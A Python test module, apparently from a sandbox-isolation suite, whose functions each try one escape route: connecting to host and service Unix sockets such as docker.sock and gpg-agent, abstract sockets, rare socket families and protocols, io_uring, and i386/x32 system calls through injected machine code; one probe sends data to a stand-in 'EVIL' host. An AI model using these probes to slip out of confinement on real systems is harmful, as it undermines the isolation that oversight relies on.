# SPDX-License-Identifier: Apache-2.0
"""Sockets that lead to a program of the host, or beside the network."""
import ctypes
import mmap
import os
import socket
import stat

from tries import (ABSTRACT, EVIL, HOME, HOST_SOCKET, LIBC, attempt, call,
                   first, nested, spoken)


@attempt
def socket_of_the_host():
    return spoken(socket.socket(socket.AF_UNIX), HOST_SOCKET)


@attempt
def socket_of_the_host_by_another_root():
    return spoken(socket.socket(socket.AF_UNIX),
                  '/proc/1/root' + HOST_SOCKET)


@attempt
def sockets_of_services():
    """Of buses, displays, agents, the log, containers."""
    def heard(path, kind):
        with socket.socket(socket.AF_UNIX, kind) as s:
            s.connect(path)
        return path
    mine = '/run/user/%d/' % os.getuid()
    return first(*[lambda p=p, k=k: heard(p, k) for k in (1, 2, 5) for p in (
        '/run/dbus/system_bus_socket', mine + 'bus', mine + 'wayland-0',
        mine + 'gnupg/S.gpg-agent', mine + 'pipewire-0', '/dev/log',
        '/tmp/.X11-unix/X0', '/run/docker.sock', '/run/nscd/socket',
        '/run/containerd/containerd.sock', '/run/podman/podman.sock',
        '/run/systemd/private', '/run/systemd/notify',
        '/run/systemd/journal/socket', '/run/systemd/journal/stdout')])


@attempt
def sockets_anywhere():
    found = []
    for top in ('/run', '/tmp', '/dev', '/var', '/mnt', '/srv', '/root', '/opt',
                HOME):
        for folder, _, names in os.walk(top):
            paths = [os.path.join(folder, n) for n in names]
            found += [p for p in paths if os.path.lexists(p) and
                      stat.S_ISSOCK(os.lstat(p).st_mode)]
    return found


@attempt
def abstract_socket_of_the_host():
    return spoken(socket.socket(socket.AF_UNIX), '\0' + ABSTRACT)


@attempt
def abstract_sockets_of_services():
    return first(*[lambda n=n: spoken(socket.socket(socket.AF_UNIX), '\0' + n)
                   for n in ('/tmp/.X11-unix/X0', '/tmp/.ICE-unix/1')])


@attempt
def abstract_socket_from_a_namespace_below():
    return nested('python3 -c "import socket;socket.socket(1).connect('
                  '\'\\0%s\');print(1)"' % ABSTRACT, '-Urn')


@attempt
def families():
    def make(family):
        for kind in (1, 2, 3, 5):
            for more in (0, 1 << 32):
                try:
                    socket.socket(family + more, kind).close()
                    return family
                except (OSError, OverflowError):
                    continue
        return None
    return [f for f in range(48) if f not in (1, 2, 10, 16) and make(f)]


@attempt
def protocols():
    """SCTP, DCCP, UDP-Lite and ICMP, which no rule of ours would see."""
    def heard(kind, protocol):
        with socket.socket(2, kind, protocol) as s:
            s.settimeout(0.5)
            s.connect((EVIL, 443))
            s.send(b'out')
            return s.recv(100)
    return first(*[lambda a=a: heard(*a) for a in (
        (1, 132), (5, 132), (6, 33), (2, 136), (2, 1), (3, 1), (3, 6))])


@attempt
def netlink():
    for protocol in range(1, 23):
        try:
            socket.socket(16, 3, protocol).close()
            return protocol
        except OSError:
            continue
    return None


@attempt
def raw_packets():
    return first(*[lambda p=p: socket.socket(2, 3, p) for p in (1, 132, 255)])


@attempt
def io_uring():
    return call('io_uring_setup', 1, ctypes.create_string_buffer(120)) >= 0


@attempt
def calls_of_another_kind():
    """i386 (int 0x80) and x32 number their calls in another way."""
    if os.uname().machine != 'x86_64':
        return None
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex('b814000000cd80c3'))  # getpid of i386
    at = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(at)() > 0 or \
        LIBC.syscall(ctypes.c_long(0x40000000 | 39)) > 0
